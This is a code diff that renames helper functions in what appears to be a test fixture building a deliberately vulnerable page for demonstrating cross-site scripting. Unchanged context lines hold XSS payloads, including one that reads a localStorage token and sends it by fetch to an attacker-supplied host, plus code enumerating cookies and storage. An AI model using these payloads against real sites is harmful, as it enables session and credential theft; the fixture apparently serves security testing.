@@ -6,8 +6,8 @@ import { randomId } from '../../../tokens/random-id.ts';
  */
 const comments: Readonly<Record<string, string>> = {
   'read-storage': commentThatRuns(`
-    const found = await look();
-    tell(found.flatMap(([place, names]) => names.map((name) => place + ': ' + name)), found.map(([place, names]) => 'reads ' + place + ': ' + (names.join(', ') || 'empty')));
+    const found = await readPlaces();
+    report(found.flatMap(([place, names]) => names.map((name) => place + ': ' + name)), found.map(([place, names]) => 'reads ' + place + ': ' + (names.join(', ') || 'empty')));
   `),
   'injected-script': `<script>window.ran = ['an inline script']</script>${commentThatRuns(`
     ran.push('an event attribute');
@@ -18,9 +18,9 @@ const comments: Readonly<Record<string, string>> = {
     const token = 'localStorage: token ' + localStorage.getItem('token');
     await fetch(new URLSearchParams(location.search).get('attacker') + '/attacker/empty?' + encodeURIComponent(token), { mode: 'no-cors' });
     ran.push('something sent away to the attacker’s server');
-    tell([...ran, token], ran.map((way) => 'tries ' + way + ': it works'));
+    report([...ran, token], ran.map((way) => 'tries ' + way + ': it works'));
   `)}`,
-  framing: commentThatRuns(`tell(['the twin, signed in'], [])`),
+  framing: commentThatRuns(`report(['the twin, signed in'], [])`),
 };
 
 function commentThatRuns(code: string): string {
@@ -31,7 +31,7 @@ export function weakPage(twin: string, token = randomId()): string {
   return `<!doctype html><title>The twin</title>
 <script>
 localStorage.setItem('token', '${token}');
-async function look() {
+async function readPlaces() {
   const places = {
     'document.cookie': () => document.cookie.split('; ').filter(Boolean),
     localStorage: () => Object.entries(localStorage).map((entry) => entry.join(' ')),
@@ -41,7 +41,7 @@ async function look() {
   };
   return Promise.all(Object.entries(places).map(async ([place, read]) => [place, await Promise.resolve().then(read).catch(() => [])]));
 }
-function tell(heard, tried) {
+function report(heard, tried) {
   localStorage.removeItem('token');
   parent.postMessage({ heard, remarks: tried.map((says) => ({ by: 'script', says })) }, '*');
 }
